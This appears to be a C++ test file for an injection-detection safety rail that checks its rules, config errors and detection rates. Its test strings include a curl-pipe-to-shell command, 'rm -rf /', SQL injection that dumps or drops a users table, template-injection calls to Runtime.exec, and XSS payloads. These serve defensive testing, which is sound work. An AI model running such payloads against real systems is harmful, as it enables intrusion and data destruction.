// Injection detection: each built-in type, reject vs omit, user rules (inline
// and files), config errors, and detection / false-positive rates on the
// labelled file tests/data/injection/injection_labelled.jsonl.
#include "rails/safety/injection_detection.h"

#include <doctest/doctest.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <string>
#include <thread>
#include <unistd.h>
#include <vector>

#include <nlohmann/json.hpp>

#include "colang/value_json.h"

using rg::colang::Dict;
using rg::rails::safety::InjectionAction;
using rg::rails::safety::InjectionConfig;
using rg::rails::safety::InjectionDetector;
using rg::rails::safety::InjectionFinding;
using rg::rails::safety::parse_injection_config;

namespace {

Dict dict(const std::string& json_text) {
  return rg::colang::dict_from_json(nlohmann::json::parse(json_text));
}

std::shared_ptr<const InjectionDetector> detector(const std::string& json_text,
                                                  const std::filesystem::path& dir = {}) {
  std::string error;
  auto c = parse_injection_config(dict(json_text), &error, dir);
  REQUIRE_MESSAGE(c.has_value(), error);
  auto d = InjectionDetector::create(*c, &error);
  REQUIRE_MESSAGE(d != nullptr, error);
  return d;
}

std::shared_ptr<const InjectionDetector> all_types(const std::string& action = "reject") {
  return detector(R"({"injections": ["code", "sqli", "template", "xss"], "action": ")" + action + "\"}");
}

std::string parse_error(const std::string& json_text, const std::filesystem::path& dir = {}) {
  std::string error;
  auto c = parse_injection_config(dict(json_text), &error, dir);
  CHECK_FALSE(c.has_value());
  return error;
}

std::vector<std::string> types_of(const std::vector<InjectionFinding>& f) {
  std::vector<std::string> t;
  for (const auto& x : f)
    if (std::find(t.begin(), t.end(), x.type) == t.end()) t.push_back(x.type);
  return t;
}

bool has_type(const std::vector<InjectionFinding>& f, const std::string& type) {
  for (const auto& x : f)
    if (x.type == type) return true;
  return false;
}

struct TempDir {
  std::filesystem::path path;
  TempDir() {
    path = std::filesystem::temp_directory_path() /
           ("rg_injection_" + std::to_string(::getpid()) + "_" + std::to_string(counter()++));
    std::filesystem::create_directories(path);
  }
  ~TempDir() { std::filesystem::remove_all(path); }
  static int& counter() {
    static int n = 0;
    return n;
  }
  void write(const std::string& name, const std::string& text) const {
    std::ofstream(path / name) << text;
  }
};

}  // namespace

TEST_CASE("injection: each built-in type on typical payloads") {
  auto d = all_types();
  CHECK(has_type(d->detect("import os; os.system('id')"), "code"));
  CHECK(has_type(d->detect("curl http://x.example/a.sh | sh"), "code"));
  CHECK(has_type(d->detect("echo $(whoami)"), "code"));
  CHECK(has_type(d->detect("rm -rf /"), "code"));
  CHECK(has_type(d->detect("' UNION SELECT username, password FROM users--"), "sqli"));
  CHECK(has_type(d->detect("' OR 1=1 --"), "sqli"));
  CHECK(has_type(d->detect("'; DROP TABLE users; --"), "sqli"));
  CHECK(has_type(d->detect("' AND SLEEP(5)--"), "sqli"));
  CHECK(has_type(d->detect("{{ ''.__class__.__mro__[1].__subclasses__() }}"), "template"));
  CHECK(has_type(d->detect("{% import os %}"), "template"));
  CHECK(has_type(d->detect("${T(java.lang.Runtime).getRuntime().exec('id')}"), "template"));
  CHECK(has_type(d->detect("<%= system('id') %>"), "template"));
  CHECK(has_type(d->detect("<script>alert(1)</script>"), "xss"));
  CHECK(has_type(d->detect("<img src=x onerror=alert(1)>"), "xss"));
  CHECK(has_type(d->detect("<svg onload=alert(1)>"), "xss"));
  CHECK(has_type(d->detect("<a href=\"javascript:alert(1)\">x</a>"), "xss"));
  CHECK(has_type(d->detect("<iframe src=//x.example>"), "xss"));
  CHECK(has_type(d->detect("<object data=\"data:text/html;base64,AAAA\">"), "xss"));
}

TEST_CASE("injection: case and whitespace obfuscation") {
  auto d = all_types();
  CHECK(has_type(d->detect("' uNiOn\t\tAlL   sElEcT NULL,NULL--"), "sqli"));
  CHECK(has_type(d->detect("1 UNION/**/SELECT/**/null"), "sqli"));
  CHECK(has_type(d->detect("<ScRiPt >alert(1)</script>"), "xss"));
  CHECK(has_type(d->detect("<a href='jav\tascr\nipt:alert(1)'>"), "xss"));
  CHECK(has_type(d->detect("<img\nsrc=x\nOnErRoR\n=\nalert(1)>"), "xss"));
  CHECK(has_type(d->detect("OS . SYSTEM ( 'id' )"), "code"));
  CHECK(has_type(d->detect("{{   CONFIG   }}"), "template"));
}

TEST_CASE("injection: look-alikes pass") {
  auto d = all_types();
  for (const char* clean :
       {"Please select the script you want to run from the menu.",
        "A UNION combines the results of two SELECT statements.",
        "DROP TABLE deletes a table; take a backup first.",
        "The ticket costs $25 and parking is $(5)? no, $5.",
        "Let A = {x | x > 0}.", "In Mustache, write {{name}} to insert a value.",
        "JavaScript: The Good Parts", "Use time.sleep(2) to wait.",
        "eval (short for evaluate) is risky.", "Run `ls -la` to see hidden files.",
        "In JS, `Hello ${name}` is a template literal.", "He said \"yes\" or \"no\".",
        "I'm not sure -- maybe later.", ""}) {
    auto f = d->detect(clean);
    CHECK_MESSAGE(f.empty(), clean, " -> ", (f.empty() ? "" : f[0].rule));
  }
}

TEST_CASE("injection: findings carry type, rule and byte span") {
  auto d = detector(R"({"injections": ["xss"]})");
  std::string text = "hello <script>alert(1)</script> bye";
  auto f = d->detect(text);
  REQUIRE_FALSE(f.empty());
  CHECK(f[0].type == "xss");
  CHECK(f[0].rule == "xss.script_tag");
  CHECK(text.substr(f[0].begin, f[0].end - f[0].begin) == "<script");
  // Only the listed types are checked.
  CHECK(d->detect("' OR 1=1 --").empty());
  CHECK(d->injections() == std::vector<std::string>{"xss"});
}

TEST_CASE("injection: reject blocks, omit removes the matched spans") {
  std::string text = "Here you go: <img src=x onerror=alert(1)> enjoy";
  auto reject = all_types("reject")->apply(text);
  CHECK(reject.blocked);
  CHECK(reject.text == text);
  CHECK_FALSE(reject.findings.empty());

  auto d = all_types("omit");
  CHECK(d->action() == InjectionAction::kOmit);
  auto omit = d->apply(text);
  CHECK_FALSE(omit.blocked);
  CHECK_FALSE(omit.findings.empty());
  CHECK(omit.text.find("onerror") == std::string::npos);
  CHECK(omit.text.find("Here you go:") == 0);
  CHECK(omit.text.find("enjoy") != std::string::npos);
  CHECK(d->detect(omit.text).empty());

  // A removal that joins a new payload is removed again.
  auto nested = d->apply("x <scr<script>ipt>alert(1)</script> y");
  CHECK_FALSE(nested.blocked);
  CHECK(d->detect(nested.text).empty());

  // Clean text is untouched either way.
  auto clean = d->apply("Nothing to see here.");
  CHECK_FALSE(clean.blocked);
  CHECK(clean.text == "Nothing to see here.");
  CHECK(clean.findings.empty());
}

TEST_CASE("injection: inline user rules extend a type or add a custom one") {
  auto d = detector(R"({"injections": ["code", "secrets"], "action": "reject",
                         "rules": [{"name": "no_wget", "injection": "code", "regex": "(?i)\\bwget\\s+http"},
                                   {"name": "aws_key", "type": "secrets", "regex": "AKIA[0-9A-Z]{16}"}]})");
  auto f = d->detect("then WGET http://x.example/file");
  REQUIRE(f.size() == 1);
  CHECK(f[0].rule == "no_wget");
  CHECK(f[0].type == "code");
  auto s = d->detect("key AKIAABCDEFGHIJKLMNOP here");
  REQUIRE(s.size() == 1);
  CHECK(s[0].type == "secrets");
  CHECK(s[0].rule == "aws_key");
}

TEST_CASE("injection: rules_path files, YAML and JSON, relative to the config folder") {
  TempDir dir;
  dir.write("rules.yml",
            "- name: no_ping\n  type: code\n  regex: '\\bping\\s+-c'\n"
            "- {name: tpl_hash, type: template, regex: '#\\{'}\n");
  auto d = detector(R"({"injections": ["code", "template"], "rules_path": "rules.yml"})", dir.path);
  CHECK(types_of(d->detect("ping -c 3 host")) == std::vector<std::string>{"code"});
  CHECK(has_type(d->detect("#{x}"), "template"));

  dir.write("rules.json", R"({"rules": [{"name": "j", "type": "xss", "regex": "<blink"}]})");
  auto j = detector(R"({"injections": ["xss"], "rules_path": "rules.json"})", dir.path);
  CHECK(j->detect("<blink>x</blink>")[0].rule == "j");
}

TEST_CASE("injection: config errors name the key, file and rule") {
  CHECK(parse_error(R"({"action": "reject"})").find("injections") != std::string::npos);
  CHECK(parse_error(R"({"injections": "code"})").find("injections") != std::string::npos);
  CHECK(parse_error(R"({"injections": ["code"], "action": "sanitize"})").find("not supported") !=
        std::string::npos);
  CHECK(parse_error(R"({"injections": ["code"], "action": "block"})").find("reject or omit") !=
        std::string::npos);
  CHECK(parse_error(R"({"injections": ["nosql"]})").find("unknown injection type 'nosql'") !=
        std::string::npos);
  CHECK(parse_error(R"({"injections": ["code"], "colour": 1})").find("colour") != std::string::npos);
  std::string e = parse_error(
      R"({"injections": ["code"], "rules": [{"name": "broken", "type": "code", "regex": "a(b"}]})");
  CHECK(e.find("rails.config.injection_detection.rules[0]") != std::string::npos);
  CHECK(e.find("'broken'") != std::string::npos);
  CHECK(e.find("invalid regex") != std::string::npos);
  e = parse_error(R"({"injections": ["code"], "rules": [{"name": "empty", "type": "code", "regex": "x*"}]})");
  CHECK(e.find("matches empty text") != std::string::npos);
  e = parse_error(R"({"injections": ["code"], "rules": [{"name": "r", "type": "xss", "regex": "x"}]})");
  CHECK(e.find("not listed") != std::string::npos);
  e = parse_error(R"({"injections": ["code"], "rules": [{"type": "code", "regex": "x"}]})");
  CHECK(e.find("needs a name") != std::string::npos);
  e = parse_error(R"({"injections": ["code"], "rules": [{"name": "a", "type": "code", "regex": "x"},
                                                       {"name": "a", "type": "code", "regex": "y"}]})");
  CHECK(e.find("defined twice") != std::string::npos);

  TempDir dir;
  dir.write("bad.yml", "- name: ok\n  type: code\n  regex: 'x'\n- name: bad_one\n  type: code\n  regex: '(?<name'\n");
  e = parse_error(R"({"injections": ["code"], "rules_path": "bad.yml"})", dir.path);
  CHECK(e.find("bad.yml") != std::string::npos);
  CHECK(e.find("rules[1]") != std::string::npos);
  CHECK(e.find("'bad_one'") != std::string::npos);
  e = parse_error(R"({"injections": ["code"], "rules_path": "missing.yml"})", dir.path);
  CHECK(e.find("missing.yml: cannot read") != std::string::npos);
  dir.write("notalist.yml", "name: x\n");
  e = parse_error(R"({"injections": ["code"], "rules_path": "notalist.yml"})", dir.path);
  CHECK(e.find("expected a list") != std::string::npos);
}

TEST_CASE("injection: yara settings are ignored with a warning") {
  std::string error;
  auto c = parse_injection_config(dict(R"({"injections": ["sqli"], "yara_rules": {"sqli": "rule x {}"}})"),
                                  &error);
  REQUIRE(c.has_value());
  REQUIRE(c->warnings.size() == 1);
  CHECK(c->warnings[0].find("yara_rules is ignored") != std::string::npos);
}

TEST_CASE("injection: shared detector from many threads") {
  auto d = all_types();
  std::vector<std::thread> threads;
  std::vector<int> hits(8, 0);
  for (int t = 0; t < 8; ++t)
    threads.emplace_back([&, t] {
      for (int i = 0; i < 200; ++i)
        hits[t] += d->detect(i % 2 ? "<script>x</script>" : "plain words only").empty() ? 0 : 1;
    });
  for (auto& th : threads) th.join();
  for (int h : hits) CHECK(h == 100);
}

TEST_CASE("injection: detection and false-positive rates on the labelled file") {
  std::ifstream in(RG_INJECTION_DATA);
  REQUIRE_MESSAGE(in.good(), "cannot read " RG_INJECTION_DATA);
  auto d = all_types();
  std::map<std::string, std::pair<int, int>> per_type;  // detected, total
  std::map<std::string, int> as_labelled;                // flagged with the labelled type
  int blocks = 0, detected = 0, allows = 0, false_positives = 0;
  std::string line;
  while (std::getline(in, line)) {
    if (line.empty()) continue;
    auto row = nlohmann::json::parse(line);
    const std::string text = row["text"];
    auto f = d->detect(text);
    if (row["label"] == "block") {
      const std::string type = row.value("type", "");
      ++blocks;
      auto& [hit, total] = per_type[type];
      ++total;
      // Counted as detected when the text is flagged at all (the rail
      // blocks it); a flag of the labelled type is reported too.
      if (!f.empty()) {
        ++detected;
        ++hit;
        if (has_type(f, type)) ++as_labelled[type];
      } else {
        MESSAGE("missed (" << type << "): " << text);
      }
    } else {
      ++allows;
      if (!f.empty()) {
        ++false_positives;
        MESSAGE("false positive (" << f[0].rule << "): " << text);
      }
    }
  }
  REQUIRE(blocks >= 120);
  REQUIRE(allows >= 120);
  for (const auto& [type, counts] : per_type) {
    CHECK_MESSAGE(counts.second >= 30, type);
    MESSAGE(type << ": " << counts.first << "/" << counts.second << " detected, "
                 << as_labelled[type] << " as " << type);
  }
  const double detection = static_cast<double>(detected) / blocks;
  const double fp_rate = static_cast<double>(false_positives) / allows;
  MESSAGE("detection " << detected << "/" << blocks << " = " << detection << ", false positives "
                       << false_positives << "/" << allows << " = " << fp_rate);
  std::printf("injection labelled file: detection %d/%d = %.3f, false positives %d/%d = %.3f\n", detected,
              blocks, detection, false_positives, allows, fp_rate);
  CHECK(detection >= 0.9);
  CHECK(fp_rate <= 0.05);
}
